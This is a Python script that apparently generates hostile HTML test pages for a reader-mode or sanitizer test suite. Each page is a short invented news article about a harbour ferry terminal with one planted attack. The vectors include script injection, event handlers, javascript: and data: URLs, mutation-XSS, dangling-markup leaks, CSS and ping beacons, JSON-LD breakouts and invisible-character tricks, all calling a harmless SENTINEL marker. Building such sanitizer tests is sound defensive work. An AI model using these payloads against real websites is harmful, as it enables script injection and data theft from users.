#!/usr/bin/env python3
"""Writes the hostile pages of this folder and manifest.tsv from the vectors below.

Each page is one short article of our own wording with one attack planted in it. Every attack
names SENTINEL (in its script, handler, or address), so a test can tell whether it survived
(the "text" family hides or reorders text with invisible characters instead; the manifest's
checks say what the fields must read):
a native test (tests/hostile.rs) checks the analysis, an end-to-end test can check that no
SENTINEL ran or was requested. Legitimate parts (the article, its image /img/quay.jpg) never
name it. Run from anywhere: python3 tests/hostile/make_pages.py
"""
from pathlib import Path

HERE = Path(__file__).resolve().parent

TITLE = "Harbour board approves the new ferry terminal"
P1 = ("The harbour board voted on Thursday evening to approve a new ferry terminal on the east quay, ending two "
      "years of public hearings in which residents, fishing crews and shop owners argued over noise, traffic and "
      "the cost of moving the fish market.")
P2 = ("Board chair Ines Calloway said the terminal would cost about 31 million pounds and open in the spring of "
      "2028, adding that the port expected twice as many passengers within five years of the first sailing.")
P3 = ("Critics on the town council's planning committee said the plan leaned too heavily on passenger forecasts "
      "made before the pandemic, and asked the board to publish the traffic study it had commissioned from an "
      "outside firm last autumn.")
P4 = ("Work on the quay wall is due to begin in March, and the old ticket office will stay open until the new "
      "building is ready, according to a notice posted at the harbour gate on Friday morning.")
KEEP = "ending two years of public hearings"

BEACON = "https://beacon.invalid/SENTINEL"


def page(name, family, what, head="", body="", title=TITLE, byline="By Tomas Ferreira",
         html_attrs='lang="en"', body_attrs="", article=None, expect=""):
    """A page: head extras, `body` after the first paragraph; `expect` adds checks to the
    manifest (`field=value; …`, an empty value for none; `image=none`: the article's own image
    is gone, as in a browser; `verdict=any`: the page may no longer read as an article, as the
    attack broke it in a browser too)."""
    if article is None:
        article = (f"<h1>{TITLE}</h1>\n<p class=\"byline\">{byline}</p>\n<p>{P1}</p>\n{body}\n<p>{P2}</p>\n"
                   f"<figure><img src=\"/img/quay.jpg\" alt=\"The east quay at dusk\">"
                   f"<figcaption>The east quay, where the terminal will stand.</figcaption></figure>\n"
                   f"<p>{P3}</p>\n<p>{P4}</p>")
    return name, family, what, expect, f"""<!doctype html>
<!-- hostile page: {name} ({family}): {what.replace('--', '- -')} -->
<html {html_attrs}><head><meta charset="utf-8">
<title>{title} | Coastal Courier</title>
<meta property="og:site_name" content="Coastal Courier">
{head}
</head><body{(' ' + body_attrs) if body_attrs else ''}>
<nav><a href="/">Home</a> <a href="/local">Local</a></nav>
<article>
{article}
</article>
<footer>Coastal Courier, 4 Quay Street</footer>
</body></html>
"""


def ld(obj):
    import json
    body = json.dumps(obj).replace("</", "<\\/")  # as pages write it, or it would end the script
    return f'<script type="application/ld+json">{body}</script>'


NEWS = {"@context": "https://schema.org", "@type": "NewsArticle"}
TEASER = f"<h1>{TITLE}</h1>\n<p>{P1}</p>\n<p><a href=\"#more\">Read more</a></p>"

PAGES = [
    # script
    page("script-inline", "script", "an inline script between paragraphs", body="<script>SENTINEL()</script>"),
    page("script-src", "script", "an external script", body=f'<script src="{BEACON}.js"></script>'),
    page("script-module", "script", "a module script with a mixed-case tag",
         body="<ScRiPt type=module>import('" + BEACON + ".mjs')</sCrIpT>"),
    page("script-in-paragraph", "script", "a script inside a paragraph of text",
         body="<p>Residents were invited to comment.<script>SENTINEL()</script> The deadline is next week.</p>"),
    page("script-slash-attribute", "script", "a script tag with a slash before its attributes",
         body=f'<script/x src="{BEACON}.js"></script>'),
    page("script-svg", "script", "a script inside inline SVG", body="<svg><script>SENTINEL()</script></svg>"),
    # handlers
    page("handler-img-onerror", "handler", "an image whose error handler runs script",
         body='<img src="/img/missing.jpg" onerror="SENTINEL()">'),
    page("handler-p-onclick", "handler", "click and mouse handlers on a paragraph",
         body='<p onclick="SENTINEL()" onmouseover="SENTINEL()">Tap here for the full schedule of sailings.</p>'),
    page("handler-a-onfocus", "handler", "a link with focus handlers and autofocus",
         body='<p><a href="/schedule" onfocus="SENTINEL()" autofocus tabindex="1">Sailing schedule</a></p>'),
    page("handler-details-ontoggle", "handler", "an open details element whose toggle handler runs",
         body='<details open ontoggle="SENTINEL()"><summary>Timeline</summary>Hearings began two years ago.</details>'),
    page("handler-body-onload", "handler", "load and page-show handlers on the body",
         body_attrs='onload="SENTINEL()" onpageshow="SENTINEL()"'),
    page("handler-svg-onload", "handler", "an SVG element with a load handler", body='<svg onload="SENTINEL()"><rect/></svg>'),
    page("handler-animation", "handler", "an animation-start handler with a keyframes rule",
         body='<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart="SENTINEL()">Notice.</p>'),
    page("handler-table-cells", "handler", "handlers on table cells and a caption",
         body='<table><caption onmouseenter="SENTINEL()">Sailings</caption><tr><td onpointerover="SENTINEL()">Daily</td><td>4</td></tr></table>'),
    page("handler-source-onerror", "handler", "a picture source and image with error handlers",
         body='<picture><source srcset="/img/quay.webp" onerror="SENTINEL()"><img src="/img/quay-small.jpg" onerror="SENTINEL()" alt="Quay"></picture>'),
    page("handler-form-controls", "handler", "form controls with focus and submit handlers",
         body='<form onsubmit="SENTINEL()"><input autofocus onfocus="SENTINEL()"><button onclick="SENTINEL()">Send</button></form>'),
    page("handler-marquee-onstart", "handler", "a marquee with a start handler",
         body='<marquee onstart="SENTINEL()">Timetable changes</marquee>'),
    # URLs
    page("url-href-javascript", "url", "a link to a javascript: URL",
         body='<p>See the <a href="javascript:SENTINEL()">full plan</a> online.</p>'),
    page("url-href-javascript-encoded", "url", "a javascript: link hidden by entities, tabs and case",
         body='<p><a href="&#x20;jav&#x09;a&#10;Script&colon;SENTINEL()">plan</a> and <a href="&#106;&#97;vascript:SENTINEL()">study</a></p>'),
    page("url-href-vbscript", "url", "a link to a vbscript: URL", body='<p><a href="vbscript:SENTINEL">minutes</a></p>'),
    page("url-href-data-html", "url", "links to data:text/html documents",
         body='<p><a href="data:text/html,<script>SENTINEL()</script>">map</a> <a href="data:text/html;base64,PHNjcmlwdD5TRU5USU5FTCgpPC9zY3JpcHQ+">plan</a></p>'),
    page("url-img-src-javascript", "url", "an image with a javascript: source",
         body='<img src="javascript:SENTINEL()" alt="diagram">'),
    page("url-img-src-svg-data", "url", "an image whose source is an SVG data: document",
         body='<img src="data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22SENTINEL()%22/%3E" alt="chart">'),
    page("url-img-srcset", "url", "srcset candidates with javascript: and SVG data: URLs",
         body='<img src="/img/quay-small.jpg" srcset="javascript:SENTINEL() 1x, data:image/svg+xml,%3Csvg%20onload=SENTINEL()%3E 2x" alt="Quay">'),
    page("url-source-srcset", "url", "a picture source with a data:text/html srcset",
         body='<picture><source srcset="data:text/html,SENTINEL 2x"><img src="/img/quay-small.jpg" alt="Quay"></picture>'),
    page("url-lazy-data-src", "url", "a lazy image whose real source is a javascript: URL",
         body='<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="javascript:SENTINEL()" data-srcset="vbscript:SENTINEL 2x" alt="Map">'),
    page("url-video-poster", "url", "a video with javascript: poster and source",
         body='<video poster="javascript:SENTINEL()" src="javascript:SENTINEL()" controls></video>'),
    page("url-formaction", "url", "buttons and inputs with javascript: formaction",
         body='<p><button formaction="javascript:SENTINEL()">Vote</button><input type="image" src="/img/vote.png" formaction="javascript:SENTINEL()"></p>'),
    page("url-svg-xlink-href", "url", "an SVG link with javascript: in xlink:href and href",
         body='<svg><a xlink:href="javascript:SENTINEL()" href="javascript:SENTINEL()"><text x="0" y="15">plan</text></a></svg>'),
    page("url-iframe-embed-object", "url", "a frame, an embed and an object on script and data: URLs",
         body='<iframe src="javascript:SENTINEL()"></iframe><embed src="data:text/html,SENTINEL"><object data="javascript:SENTINEL()"></object>'),
    page("url-blockquote-cite", "url", "a quotation citing a javascript: URL",
         body='<blockquote cite="javascript:SENTINEL()"><p>We listened to every objection.</p></blockquote><q cite="vbscript:SENTINEL">Fine</q>'),
    page("url-area-and-form", "url", "an image map area and a form posting to javascript:",
         body='<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:SENTINEL()"></map><form action="javascript:SENTINEL()"><input name="q"></form>'),
    page("url-og-image-javascript", "url", "an og:image that is a javascript: URL",
         head='<meta property="og:image" content="javascript:SENTINEL()">'),
    page("url-og-image-svg-data", "url", "an og:image that is an SVG data: document",
         head='<meta property="og:image" content="data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22SENTINEL()%22/%3E">'),
    page("url-twitter-image-vbscript", "url", "a twitter:image that is a vbscript: URL",
         head='<meta name="twitter:image" content="vbscript:SENTINEL">'),
    page("url-json-ld-image", "url", "a JSON-LD image object pointing at javascript:",
         head=ld({**NEWS, "headline": TITLE, "image": {"@type": "ImageObject", "url": "javascript:SENTINEL()"}})),
    page("url-noscript-fallback", "url", "a noscript image fallback with a javascript: source and a handler",
         body='<img data-lazy="1" class="lazy"><noscript><img src="javascript:SENTINEL()" onerror="SENTINEL()"></noscript>'),
    page("url-ping-and-legacy", "beacon", "a link ping and legacy background, lowsrc and longdesc addresses",
         body=f'<p><a href="/schedule" ping="{BEACON}/ping">Schedule</a></p><table background="{BEACON}/bg.gif"><tr><td background="{BEACON}/td.gif">Fares</td></tr></table><img src="/img/quay-small.jpg" lowsrc="{BEACON}/low.gif" longdesc="{BEACON}/desc" alt="Quay">'),
    # srcdoc
    page("srcdoc-script", "srcdoc", "a frame whose srcdoc runs a script",
         body='<iframe srcdoc="&lt;script&gt;parent.SENTINEL()&lt;/script&gt;"></iframe>'),
    page("srcdoc-image-handler", "srcdoc", "a frame whose srcdoc holds an image with an error handler",
         body="<iframe srcdoc='<img src=x onerror=SENTINEL()>' width=1 height=1></iframe>"),
    # SVG and MathML
    page("svg-foreignobject", "svg-mathml", "SVG foreignObject holding HTML with a handler",
         body='<svg><foreignObject width="100" height="50"><img src="x" onerror="SENTINEL()"></foreignObject></svg>'),
    page("svg-animate-href", "svg-mathml", "an SVG animation that sets a link to javascript:",
         body='<svg><a><set attributeName="href" to="javascript:SENTINEL()"/><animate attributeName="xlink:href" values="javascript:SENTINEL()"/><text y="20">plan</text></a></svg>'),
    page("svg-use-data", "svg-mathml", "an SVG use element loading a data: document",
         body='<svg><use href="data:image/svg+xml,%3Csvg%20id=%22x%22%20onload=%22SENTINEL()%22/%3E#x"/></svg>'),
    page("svg-image-beacon", "svg-mathml", "an SVG image element loading a beacon",
         body=f'<svg><image href="{BEACON}/svg.png" width="1" height="1"/></svg>'),
    page("mathml-href", "svg-mathml", "MathML with href and maction links to javascript:",
         body='<p>The ratio is <math href="javascript:SENTINEL()"><maction actiontype="statusline" xlink:href="javascript:SENTINEL()"><mi>x</mi><mtext>s</mtext></maction></math> today.</p>'),
    page("mathml-mglyph-style", "mxss", "MathML mtext, table, mglyph and style namespace confusion",
         body='<math><mtext><table><mglyph><style><img src=x onerror=SENTINEL()></style></mglyph></table></mtext></math>'),
    # base
    page("base-javascript", "base", "a base element pointing at javascript:", head='<base href="javascript:SENTINEL()//">',
         body='<p>The new <a href="timetable">timetable</a> is posted at the gate.</p>',
         expect="link=https://courier.example/local/timetable"),
    page("base-data", "base", "a base element pointing at a data: document", head='<base href="data:text/html,SENTINEL/">'),
    page("base-in-body", "base", "a base element inside the article", body='<base href="javascript:SENTINEL()//">'),
    # meta refresh
    page("meta-refresh-javascript", "meta-refresh", "a meta refresh to javascript:",
         head='<meta http-equiv="refresh" content="0;url=javascript:SENTINEL()">'),
    page("meta-refresh-beacon", "meta-refresh", "a meta refresh inside the article to a beacon",
         body=f'<meta http-equiv="refresh" content="1; URL=\'{BEACON}/refresh\'">'),
    # CSS beacons
    page("css-style-attribute", "css", "style attributes loading a background beacon",
         body=f'<p style="background:url({BEACON}/bg.png)">Fares will rise by 5 percent.</p><span style="behavior:url({BEACON}.htc);width:expression(SENTINEL())">.</span>'),
    page("css-style-import", "css", "a style element importing a stylesheet beacon",
         body=f'<style>@import url("{BEACON}/import.css"); p {{ background-image: url({BEACON}/p.png) }}</style>'),
    page("css-link-stylesheet", "css", "link elements for a stylesheet, a prefetch and a preload beacon",
         body=f'<link rel="stylesheet" href="{BEACON}/s.css"><link rel="prefetch" href="{BEACON}/pre"><link rel="preload" as="image" href="{BEACON}/img.png">'),
    page("css-font-face", "css", "a font-face rule and image-set loading beacons",
         body=f'<style>@font-face {{ font-family: x; src: url({BEACON}/f.woff) }} h2 {{ background: image-set("{BEACON}/i.png" 1x) }}</style><h2 style="font-family:x">Timeline</h2>'),
    # mutation XSS
    page("mxss-noscript-title", "mxss", "a noscript whose attribute closes it and opens an image with a handler",
         body='<noscript><p title="</noscript><img src=x onerror=SENTINEL()>"></noscript>'),
    page("mxss-svg-style", "mxss", "a style element in SVG holding markup",
         body='<svg></p><style><a id="</style><img src=1 onerror=SENTINEL()>"></style></svg>'),
    page("mxss-template", "mxss", "a template holding an image with a handler",
         body='<template><img src=x onerror=SENTINEL()></template><template shadowrootmode="open"><img src=x onerror=SENTINEL()></template>'),
    page("mxss-comment", "mxss", "comments that end early and hide a handler in an attribute",
         body='<!--><img src=x onerror=SENTINEL()>--><!-- <img title="--><img src=x onerror=SENTINEL()//"> -->'),
    page("mxss-xmp-iframe-title", "mxss", "raw-text elements whose bodies look like closing markup",
         body='<xmp><p title="</xmp><img src=x onerror=SENTINEL()>"></xmp><iframe><p title="</iframe><img src=x onerror=SENTINEL()>"></iframe><title><img src=x onerror=SENTINEL()></title>'),
    page("mxss-form-math", "mxss", "nested forms and MathML that move an image out of a style element",
         body='<form><math><mtext></form><form><mglyph><style></math><img src onerror=SENTINEL()>',
         # The first form is never closed: the rest of the article goes into it, and the content
         # detection drops that form with it (a loss, not a leak).
         expect="image=none; verdict=any"),
    page("mxss-svg-cdata", "mxss", "CDATA in SVG hiding an image with a handler",
         body='<svg><![CDATA[><img src=x onerror=SENTINEL()>]]></svg>'),
    page("mxss-escaped-text", "mxss", "article text that spells out markup with entities",
         body='<p>The board wrote &lt;img src=x onerror=SENTINEL()&gt; in its notice by mistake.</p>'),
    # dangling markup
    page("dangling-img-single-quote", "dangling", "an image source left open by a single quote",
         body=f"<img src='{BEACON}?leak=", expect="image=none"),
    page("dangling-img-double-quote", "dangling", "an image source left open by a double quote",
         body=f'<img src="{BEACON}?leak=', expect="image=none"),
    page("dangling-srcset", "dangling", "an image srcset left open by a single quote",
         body=f"<img srcset='{BEACON}?leak=", expect="image=none"),
    page("dangling-link", "dangling", "a link address left open by a single quote",
         body=f"<a href='{BEACON}?leak=", expect="image=none; verdict=any"),
    page("dangling-og-image", "dangling", "an og:image content left open by a single quote",
         head=f"<meta property=\"og:image\" content='{BEACON}?leak=", byline="By Tomas Ferreira's desk"),
    # JSON-LD
    page("json-ld-body-markup", "json-ld", "a JSON-LD articleBody carrying scripts, handlers and script links",
         head=ld({**NEWS, "headline": TITLE, "articleBody":
                  f"<p>{P1}</p><script>SENTINEL()</script><p onclick=\"SENTINEL()\">{P2}</p>"
                  f"<p><img src=\"/img/quay.jpg\" onerror=\"SENTINEL()\" srcset=\"javascript:SENTINEL() 2x\" alt=\"Quay\"></p>"
                  f"<p>{P3} <a href=\"javascript:SENTINEL()\">the study</a></p><p>{P4}</p>"}),
         article=TEASER, expect=f"title={TITLE}"),
    page("json-ld-body-frames", "json-ld", "a JSON-LD articleBody with a srcdoc frame, SVG and a style beacon",
         head=ld({**NEWS, "headline": TITLE, "articleBody":
                  f"<p>{P1}</p><iframe srcdoc=\"<script>SENTINEL()</script>\"></iframe><p style=\"background:url({BEACON})\">{P2}</p>"
                  f"<svg onload=\"SENTINEL()\"></svg><p>{P3}</p><p><a href=\"/schedule\">Schedule</a> {P4}</p>"}),
         article=TEASER, expect="image=none; link=https://courier.example/schedule"),
    page("json-ld-fields-markup", "json-ld", "JSON-LD headline, author and description carrying markup",
         head=ld({**NEWS, "headline": "Harbour board <img src=x onerror=SENTINEL()>approves the new ferry terminal",
                  "author": {"@type": "Person", "name": "Tomas <script>SENTINEL()</script>Ferreira"},
                  "description": "The board <b>voted</b> &lt;script&gt;SENTINEL()&lt;/script&gt; on Thursday."}),
         expect=f"title={TITLE}; byline=Tomas Ferreira; excerpt=The board voted on Thursday."),
    page("json-ld-script-breakout", "json-ld", "a JSON-LD block whose string closes the script element",
         head='<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"x</script><script>SENTINEL()</script>"}</script>'),
    # text tricks
    page("text-title-bidi-override", "text", "a title reversed by a right-to-left override",
         head=f'<meta property="og:title" content="\u202eHarbour board approves\u202c the new ferry terminal">',
         expect=f"title={TITLE}"),
    page("text-byline-zero-width", "text", "a byline split by zero-width characters and bidi isolates",
         byline="By \u2066Tomas\u2069 Fer\u200breira\u200d\ufeff", head='<meta name="author" content="\u200bTomas\u200c Ferreira\u2060">',
         expect="byline=Tomas Ferreira"),
    page("text-site-name-controls", "text", "a site name with control, tag and interlinear characters",
         head='<meta property="og:site_name" content="Coastal\u0007 Courier\U000E0041\U000E0042\ufff9">',
         expect="site_name=Coastal Courier"),
    page("text-title-markup", "text", "a title tag holding markup and escaped markup",
         title="Harbour board &lt;img src=x onerror=SENTINEL()&gt;approves the <b>new</b> ferry terminal",
         expect=f"title={TITLE}"),
    page("text-description-markup", "text", "a description carrying markup, a script and line separators",
         head='<meta name="description" content="The board &lt;script&gt;SENTINEL()&lt;/script&gt; voted\u2028on <i>Thursday</i>.">',
         expect="excerpt=The board voted on Thursday."),
    page("text-lang-dir-injection", "text", "lang and dir attributes carrying markup",
         html_attrs='lang="en&quot;&gt;&lt;img src=x onerror=SENTINEL()&gt;" dir="rtl;background:url(x)"',
         expect="lang=; dir="),
]


def main():
    names = set()
    rows = ["# name\tfamily\tvector (every page plants SENTINEL; see make_pages.py)\tchecks beyond the common ones"]
    for name, family, what, expect, html in PAGES:
        assert name not in names, name
        names.add(name)
        (HERE / f"{name}.html").write_text(html, encoding="utf-8")
        rows.append(f"{name}\t{family}\t{what}\t{expect}")
    for old in HERE.glob("*.html"):
        if old.stem not in names:
            old.unlink()
    (HERE / "manifest.tsv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    print(f"{len(PAGES)} pages")


if __name__ == "__main__":
    main()
